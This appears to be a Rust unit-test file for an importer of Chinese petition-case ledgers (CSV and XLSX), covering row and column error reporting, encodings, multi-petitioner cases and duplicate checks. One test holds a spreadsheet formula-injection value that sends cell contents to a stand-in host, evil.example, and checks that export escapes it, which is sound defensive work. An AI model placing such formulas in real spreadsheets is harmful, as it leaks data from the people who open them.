//! The ledger's unit tests: the commands a checked row becomes; every problem with its row and
//! column; GBK CSV, title rows and merged cells read at their real rows; cases of several rows;
//! export then import round-tripping; cases imported before, and duplicates outside the area.

use super::*;

fn directory() -> Directory {
    let mut d = Directory::default();
    d.districts.insert("思明区".into(), "xm-siming".into());
    d.districts.insert("湖里区".into(), "xm-huli".into());
    d.towns.insert(
        ("xm-siming".into(), "中华街道".into()),
        "xm-siming-zhonghua".into(),
    );
    d.units
        .insert("市住房局".into(), vec!["xm-dept-zjj".into()]);
    d.leaders.insert("李明".into(), vec!["ldr-1".into()]);
    d.leaders
        .insert("王芳".into(), vec!["ldr-2".into(), "ldr-3".into()]);
    d
}

fn today() -> NaiveDate {
    NaiveDate::from_ymd_opt(2026, 3, 2).unwrap_or_default()
}

fn date(y: i32, m: u32, d: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(y, m, d).unwrap_or_default()
}

const HEADER: &str = "案件编号,信访人姓名,身份证号,联系电话,住址,诉求,类别,区,镇街,信访渠道,首次信访日期,列入方式,涉及人数,包案领导,责任单位";

/// Three valid resident ID numbers.
const ID_1: &str = "350203198001010013";
const ID_2: &str = "35020319851212002X";
const ID_3: &str = "35020319900305003X";

fn check_csv(csv: &str, existing: &Existing) -> Result<Checked, Vec<RowError>> {
    check(csv.as_bytes(), Format::Csv, &directory(), existing, today())
}

fn places(errors: &[RowError]) -> Vec<(usize, &str)> {
    errors
        .iter()
        .map(|e| (e.row, e.column.as_deref().unwrap_or("")))
        .collect()
}

#[test]
fn a_valid_row_becomes_three_commands() -> Result<(), Vec<RowError>> {
    let csv = format!(
        "\u{feff}{HEADER}\nTZ-1,张三,11010519491231002X,13800000000,中华路1号,补偿问题,征地拆迁,思明区,中华街道,来访,2025-06-01,滚动排查,3,李明,市住房局\n"
    );
    let checked = check_csv(&csv, &Existing::default())?;
    assert_eq!(checked.cases.len(), 1);
    let case = &checked.cases[0];
    assert_eq!((case.row, case.case_id), (2, case_id_for("TZ-1")));
    assert_eq!(case.commands().len(), 3);
    assert_eq!(case.register.town_id.as_deref(), Some("xm-siming-zhonghua"));
    Ok(())
}

#[test]
fn every_problem_is_reported_with_row_and_column() {
    let csv = format!(
        "{HEADER}\n\
         TZ-1,张三,110105194912310021,,,补偿,征地拆迁,思明区,,来访,2025-06-01,滚动排查,,,\n\
         TZ-2,李四,,,,,征地拆迁,火星区,,来访,2025-06-01,滚动排查,,,\n\
         TZ-3,王五,,12ab,,诉求,征地拆迁,思明区,东方街道,飞鸽,昨天,随便,0,王芳,无此局\n\
         ,赵六,,,,诉求,征地拆迁,思明区,,来访,2025-06-01,滚动排查,,,\n"
    );
    let Err(errors) = check_csv(&csv, &Existing::default()) else {
        panic!("errors expected");
    };
    assert_eq!(
        places(&errors),
        [
            (2, "身份证号"),
            (3, "诉求"),
            (3, "区"),
            (4, "联系电话"),
            (4, "镇街"),
            (4, "信访渠道"),
            (4, "首次信访日期"),
            (4, "列入方式"),
            (4, "涉及人数"),
            (4, "包案领导"),
            (4, "责任单位"),
            (5, "案件编号"),
        ]
    );
}

#[test]
fn a_missing_column_is_named() {
    let Err(errors) = check_csv("案件编号,诉求\n", &Existing::default()) else {
        panic!("errors expected");
    };
    assert!(
        errors
            .iter()
            .any(|e| e.row == 1 && e.column.as_deref() == Some("信访人姓名"))
    );
}

/// No ASCII letters: nothing of a parser's English reaches the user.
fn chinese_only(message: &str) -> bool {
    !message.chars().any(|c| c.is_ascii_alphabetic())
}

#[test]
fn a_gbk_csv_is_read_and_an_unreadable_one_is_answered_in_chinese() -> Result<(), Vec<RowError>> {
    let csv = format!(
        "{HEADER}\r\nTZ-1,庄辉珠,{ID_1},,中华路1号,补偿问题,征地拆迁,思明区,中华街道,来访,2025-06-01,滚动排查,,,\r\n"
    );
    let (gbk, _, unmappable) = encoding_rs::GBK.encode(&csv);
    assert!(!unmappable && std::str::from_utf8(&gbk).is_err());
    let checked = check(
        &gbk,
        Format::Csv,
        &directory(),
        &Existing::default(),
        today(),
    )?;
    let register = &checked.cases[0].register;
    assert_eq!(register.petitioners[0].name, "庄辉珠");
    assert_eq!(register.matter, "补偿问题");
    assert_eq!(register.district_id, "xm-siming");

    // Neither UTF-8 nor GB18030 (0xFF never occurs in either).
    let junk = [b"\xff\xfe\xff".as_slice(), csv.as_bytes()].concat();
    let Err(errors) = check(
        &junk,
        Format::Csv,
        &directory(),
        &Existing::default(),
        today(),
    ) else {
        panic!("errors expected");
    };
    assert_eq!(errors.len(), 1);
    assert!(errors[0].message.contains("UTF-8 或 GBK"));
    // Beyond the encodings named, no English.
    assert!(chinese_only(
        &errors[0]
            .message
            .replace("UTF-8", "")
            .replace("GBK", "")
            .replace("CSV", "")
            .replace("XLSX", "")
    ));
    Ok(())
}

#[test]
fn title_rows_above_the_header_keep_the_row_numbers() {
    let rows = format!(
        "TZ-1,张三,{ID_1},,,补偿,征地拆迁,思明区,,来访,2025-06-01,滚动排查,,,\n\
         TZ-2,李四,,,,补偿,征地拆迁,思明区,无此街道,来访,2025-06-01,滚动排查,,,\n\
         \n\
         TZ-3,王五,,,,补偿,征地拆迁,思明区,,来访,2099-01-01,滚动排查,,,\n"
    );
    // A title, a blank row (empty, or cells with nothing), a note, then the header at row 4.
    for blank in ["", ",,,,"] {
        let csv = format!(
            "思明区信访积案台账,,,,,,,,,,,,,,\n{blank}\n填表说明：一名信访人一行\n{HEADER}\n{rows}"
        );
        let Err(errors) = check_csv(&csv, &Existing::default()) else {
            panic!("errors expected");
        };
        assert_eq!(
            places(&errors),
            [(6, "镇街"), (8, "首次信访日期")],
            "{blank:?}"
        );
    }
    // A header with required-markers is a header too.
    let marked = HEADER
        .replace("案件编号", "*案件编号")
        .replace("诉求", "诉求（必填）");
    let csv = format!("思明区信访积案台账\n{marked}\n{rows}");
    let Err(errors) = check_csv(&csv, &Existing::default()) else {
        panic!("errors expected");
    };
    assert_eq!(places(&errors), [(4, "镇街"), (6, "首次信访日期")]);
}

#[test]
fn missing_columns_are_reported_on_the_likeliest_header_row() {
    let header = HEADER.replace("类别", "分类");
    let csv = format!("思明区信访积案台账\n\n{header}\nTZ-1,张三\n");
    let Err(errors) = check_csv(&csv, &Existing::default()) else {
        panic!("errors expected");
    };
    assert_eq!(places(&errors), [(3, "类别")]);
    assert!(errors[0].message.contains("缺少必填列“类别”"));

    // A header below the first ten rows is not looked for.
    let csv = format!("{}{HEADER}\n", "说明\n".repeat(10));
    let Err(errors) = check_csv(&csv, &Existing::default()) else {
        panic!("errors expected");
    };
    assert!(errors.iter().all(|e| e.row == 1));
    assert!(
        errors
            .iter()
            .any(|e| e.column.as_deref() == Some("案件编号"))
    );
}

/// A workbook as clerks make them: a merged title row, a blank row, the header at row 3.
fn workbook(rows: &[[&str; 15]]) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    let title = rust_xlsxwriter::Format::new().set_bold();
    sheet.merge_range(0, 0, 0, 14, "思明区信访积案台账", &title)?;
    for (col, (name, _)) in (0u16..).zip(COLUMNS) {
        sheet.write_string(2, col, name)?;
    }
    for (row, cells) in (3u32..).zip(rows) {
        for (col, cell) in (0u16..).zip(cells) {
            if !cell.is_empty() {
                sheet.write_string(row, col, *cell)?;
            }
        }
    }
    book.save_to_buffer()
}

#[test]
fn an_xlsx_with_a_merged_title_row_is_read_at_its_real_rows()
-> Result<(), Box<dyn std::error::Error>> {
    let good = [
        "TZ-1",
        "张三",
        ID_1,
        "",
        "",
        "补偿",
        "征地拆迁",
        "思明区",
        "中华街道",
        "来访",
        "2025-06-01",
        "滚动排查",
        "",
        "李明",
        "",
    ];
    let mut bad = good;
    bad[0] = "TZ-2";
    bad[2] = ID_2;
    bad[8] = "无此街道";
    let bytes = workbook(&[good, bad])?;
    let Err(errors) = check(
        &bytes,
        Format::Xlsx,
        &directory(),
        &Existing::default(),
        today(),
    ) else {
        panic!("errors expected");
    };
    assert_eq!(places(&errors), [(5, "镇街")]);

    let bytes = workbook(&[good])?;
    let checked = check(
        &bytes,
        Format::Xlsx,
        &directory(),
        &Existing::default(),
        today(),
    )
    .map_err(|e| format!("{e:?}"))?;
    assert_eq!(checked.cases.len(), 1);
    assert_eq!(checked.cases[0].row, 4);
    assert_eq!(checked.cases[0].leader_id.as_deref(), Some("ldr-1"));
    Ok(())
}

#[test]
fn rows_sharing_a_case_number_are_one_case_with_every_petitioner() -> Result<(), Vec<RowError>> {
    let csv = format!(
        "{HEADER}\n\
         TZ-1,张三,{ID_1},13800000000,中华路1号,补偿问题,征地拆迁,思明区,中华街道,来访,2025-06-01,滚动排查,3,李明,市住房局\n\
         TZ-2,赵六,,,,别的诉求,征地拆迁,思明区,,来信,2025-06-02,新发信访,,,\n\
         TZ-1,李四,{ID_2},,中华路2号,,,,,,,,,,\n\
         TZ-1,王五,,,,补偿问题,征地拆迁, 思明区 ,中华街道,来访,2025/6/1,滚动排查,3,李明,市住房局\n"
    );
    let checked = check_csv(&csv, &Existing::default())?;
    assert_eq!(checked.cases.len(), 2);
    let case = &checked.cases[0];
    assert_eq!(case.row, 2);
    let names: Vec<&str> = case
        .register
        .petitioners
        .iter()
        .map(|p| p.name.as_str())
        .collect();
    assert_eq!(names, ["张三", "李四", "王五"]);
    assert_eq!(
        case.register.petitioners[1].id_number.as_deref(),
        Some(ID_2)
    );
    assert_eq!(case.register.group_size, Some(3));
    assert_eq!(case.commands().len(), 3);
    assert_eq!(checked.cases[1].register.petitioners.len(), 1);
    Ok(())
}

#[test]
fn rows_of_one_case_must_agree_and_not_repeat_a_petitioner() {
    let csv = format!(
        "{HEADER}\n\
         TZ-1,张三,{ID_1},,,补偿问题,征地拆迁,思明区,,来访,2025-06-01,滚动排查,,李明,\n\
         TZ-1,李四,{ID_1},,,补偿问题,,湖里区,,,2025-06-01,,,,\n\
         TZ-1,王五,,,,另一个诉求,,,中华街道,,2025-06-02,,2,王芳,\n"
    );
    let Err(errors) = check_csv(&csv, &Existing::default()) else {
        panic!("errors expected");
    };
    assert_eq!(
        places(&errors),
        [
            (3, "身份证号"),
            (3, "区"),
            (4, "诉求"),
            (4, "镇街"),
            (4, "首次信访日期"),
            (4, "涉及人数"),
            (4, "包案领导"),
        ]
    );
    assert!(errors[1].message.contains("与第 2 行同一案件的“区”不一致"));
    assert!(errors[0].message.contains("与第 2 行同一案件的信访人重复"));
}

fn three_petitioners() -> Vec<Petitioner> {
    [("张三", ID_1), ("李四", ID_2), ("王五", ID_3)]
        .into_iter()
        .enumerate()
        .map(|(i, (name, id))| Petitioner {
            name: name.into(),
            id_number: Some(id.into()),
            phone: (i != 1).then(|| format!("1380000000{i}")),
            address: Some(format!("中华路{i}号，3 单元")),
        })
        .collect()
}

fn exported() -> LedgerRow {
    LedgerRow {
        case_number: "XF20250601-0001".into(),
        petitioners: three_petitioners(),
        matter: "要求解决房屋征收补偿问题".into(),
        category: "征地拆迁".into(),
        district: "思明区".into(),
        town: Some("中华街道".into()),
        channel: Some(Channel::Visit),
        first_filed_on: Some(date(2025, 6, 1)),
        list_source: Some(ListSource::Screening),
        group_size: Some(3),
        leader: Some("李明".into()),
        lead_unit: Some("市住房局".into()),
    }
}

#[test]
fn an_exported_case_with_three_petitioners_imports_back_the_same()
-> Result<(), Box<dyn std::error::Error>> {
    let table = table(&[exported()]);
    assert_eq!(table.rows.len(), 3);
    let created = date(2026, 3, 2).and_hms_opt(9, 0, 0).unwrap_or_default();
    for (bytes, format) in [
        (zhzj_export::to_csv(&table)?, Format::Csv),
        (
            zhzj_export::to_xlsx(std::slice::from_ref(&table), created)?,
            Format::Xlsx,
        ),
    ] {
        let checked = check(&bytes, format, &directory(), &Existing::default(), today())
            .map_err(|e| format!("{e:?}"))?;
        assert_eq!(checked.cases.len(), 1, "{format:?}");
        let case = &checked.cases[0];
        assert_eq!(case.register.petitioners, three_petitioners(), "{format:?}");
        assert_eq!(case.register.group_size, Some(3));
        assert_eq!(case.register.first_filed_on, date(2025, 6, 1));
        assert_eq!(case.leader_id.as_deref(), Some("ldr-1"));
        assert_eq!(case.unit_id.as_deref(), Some("xm-dept-zjj"));
    }
    Ok(())
}

#[test]
fn a_formula_like_matter_is_exported_as_text_and_imports_back_the_same()
-> Result<(), Box<dyn std::error::Error>> {
    let mut row = exported();
    row.matter = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"点击查看\")".into();
    let table = table(std::slice::from_ref(&row));
    let bytes = zhzj_export::to_csv(&table)?;
    assert!(
        String::from_utf8(bytes.clone())?.contains("\"'=HYPERLINK("),
        "the exported cell opens as text"
    );
    let checked = check(
        &bytes,
        Format::Csv,
        &directory(),
        &Existing::default(),
        today(),
    )
    .map_err(|e| format!("{e:?}"))?;
    assert_eq!(checked.cases[0].register.matter, row.matter);
    Ok(())
}

/// What the system holds after importing [`exported`].
fn imported() -> Existing {
    let number = "XF20250601-0001".to_owned();
    let mut existing = Existing::default();
    existing
        .case_numbers
        .insert(number.clone(), case_id_for(&number).to_string());
    for p in three_petitioners() {
        if let Some(id) = p.id_number {
            existing.id_numbers.insert(id, number.clone());
        }
    }
    existing.cases.insert(
        number,
        ExistingCase {
            petitioners: three_petitioners().iter().map(Into::into).collect(),
            matter: "要求解决房屋征收补偿问题".into(),
            category: "征地拆迁".into(),
            district_id: "xm-siming".into(),
            town_id: Some("xm-siming-zhonghua".into()),
            channel: Channel::Visit,
            first_filed_on: date(2025, 6, 1),
            list_source: ListSource::Screening,
            group_size: 3,
        },
    );
    existing
}

fn exported_csv(rows: &[LedgerRow]) -> Result<String, Box<dyn std::error::Error>> {
    Ok(String::from_utf8(zhzj_export::to_csv(&table(rows))?)?)
}

#[test]
fn a_case_imported_before_that_still_agrees_is_counted_not_added()
-> Result<(), Box<dyn std::error::Error>> {
    // Leader and unit may have changed since; that is no difference.
    let mut row = exported();
    row.leader = None;
    let checked = check_csv(&exported_csv(&[row])?, &imported()).map_err(|e| format!("{e:?}"))?;
    assert_eq!((checked.cases.len(), checked.already_imported), (0, 1));
    Ok(())
}

#[test]
fn a_duplicate_outside_the_importers_area_names_no_case() -> Result<(), Box<dyn std::error::Error>>
{
    let mut existing = imported();
    existing.outside_scope.insert("XF20250601-0001".into());
    // The same case number: taken, by whom is not said.
    let Err(errors) = check_csv(&exported_csv(&[exported()])?, &existing) else {
        panic!("errors expected");
    };
    assert!(
        errors
            .iter()
            .any(|e| e.message == OUTSIDE_SCOPE_CASE_NUMBER),
        "{errors:?}"
    );
    // Another number, the same petitioners: a duplicate somewhere else, not named.
    let mut row = exported();
    row.case_number = "XF20260301-0009".into();
    let Err(errors) = check_csv(&exported_csv(&[row])?, &existing) else {
        panic!("errors expected");
    };
    assert_eq!(
        errors
            .iter()
            .filter(|e| e.message == OUTSIDE_SCOPE_ID_NUMBER)
            .count(),
        3,
        "{errors:?}"
    );
    assert!(
        errors
            .iter()
            .all(|e| !e.message.contains("XF20250601-0001")),
        "{errors:?}"
    );
    Ok(())
}

#[test]
fn a_case_imported_before_is_fully_checked_and_compared() -> Result<(), Box<dyn std::error::Error>>
{
    let mut row = exported();
    row.matter = "要求解决别的问题".into();
    row.town = None;
    row.group_size = None;
    row.petitioners[1].name = "李 四四".into();
    row.petitioners[2].id_number = Some(ID_1.into());
    row.petitioners.push(Petitioner {
        name: "赵六".into(),
        id_number: Some("350203199003050031".into()),
        phone: None,
        address: None,
    });
    let Err(errors) = check_csv(&exported_csv(&[row])?, &imported()) else {
        panic!("errors expected");
    };
    assert_eq!(
        places(&errors),
        [
            (2, "诉求"),
            (2, "镇街"),
            (2, "涉及人数"),
            (3, "信访人姓名"),
            (4, "身份证号"),
            (5, "身份证号"),
        ]
    );
    let message = |i: usize| errors[i].message.as_str();
    assert_eq!(
        message(0),
        "案件编号 XF20250601-0001 已导入，系统中的“诉求”为“要求解决房屋征收补偿问题”，与本行不一致（修改已导入的案件请在系统中进行）"
    );
    assert!(message(1).contains("系统中的“镇街”为“中华街道”"));
    assert!(message(2).contains("系统中的“涉及人数”为“3”"));
    // The stored petitioner is not shown.
    assert!(message(3).contains("已导入") && !message(3).contains("李四"));
    // The same ID number twice in the case; a wrong check digit is found as in a new row.
    assert!(message(4).contains("与第 2 行同一案件的信访人重复"));
    assert!(message(5).contains("校验位不正确"));

    // A row with the right petitioners but one left out of the ledger.
    let mut row = exported();
    row.petitioners.truncate(2);
    let Err(errors) = check_csv(&exported_csv(&[row])?, &imported()) else {
        panic!("errors expected");
    };
    assert_eq!(places(&errors), [(2, "信访人姓名")]);
    assert!(!errors[0].message.contains("王五"));
    assert!(!errors[0].message.contains(ID_3));

    // An ID number that differs on a known petitioner.
    let mut row = exported();
    row.petitioners[0].id_number = Some("11010519491231002X".into());
    let Err(errors) = check_csv(&exported_csv(&[row])?, &imported()) else {
        panic!("errors expected");
    };
    assert_eq!(places(&errors), [(2, "身份证号")]);
    assert!(!errors[0].message.contains(ID_1));
    Ok(())
}

#[test]
fn a_case_number_of_another_case_or_one_that_cannot_be_compared_is_refused()
-> Result<(), Box<dyn std::error::Error>> {
    let csv = exported_csv(&[exported()])?;
    let mut existing = imported();
    existing.cases.clear();
    let Err(errors) = check_csv(&csv, &existing) else {
        panic!("errors expected");
    };
    assert_eq!(places(&errors), [(2, "案件编号")]);
    assert!(errors[0].message.contains("无法核对"));

    let mut existing = imported();
    existing
        .case_numbers
        .insert("XF20250601-0001".into(), Uuid::nil().to_string());
    let Err(errors) = check_csv(&csv, &existing) else {
        panic!("errors expected");
    };
    assert_eq!(places(&errors), [(2, "案件编号")]);
    assert!(errors[0].message.contains("疑似重复"));

    // A petitioner of a case imported before, on a new case: the duplicate check fires.
    let csv = csv.replace("XF20250601-0001", "XF20250601-0002");
    let Err(errors) = check_csv(&csv, &imported()) else {
        panic!("errors expected");
    };
    assert_eq!(
        places(&errors),
        [(2, "身份证号"), (3, "身份证号"), (4, "身份证号")]
    );
    Ok(())
}

#[test]
fn names_are_normalised_before_lookup_and_storage() -> Result<(), Vec<RowError>> {
    let mut directory = directory();
    // The directory's own names may carry stray spaces too.
    directory
        .units
        .insert("区 信访局".into(), vec!["xm-siming-xfj".into()]);
    let csv = format!(
        "{HEADER}\n\
         TZ-1,庄　辉珠,{ID_1},,,补偿问题,征地拆迁,思明 区,中华　街道,来访,2025-06-01,滚动排查,,李　明,区信访局\n"
    );
    let checked = check(
        csv.as_bytes(),
        Format::Csv,
        &directory,
        &Existing::default(),
        today(),
    )?;
    let case = &checked.cases[0];
    assert_eq!(case.register.petitioners[0].name, "庄辉珠");
    assert_eq!(case.register.district_id, "xm-siming");
    assert_eq!(case.register.town_id.as_deref(), Some("xm-siming-zhonghua"));
    assert_eq!(case.leader_id.as_deref(), Some("ldr-1"));
    assert_eq!(case.unit_id.as_deref(), Some("xm-siming-xfj"));
    Ok(())
}
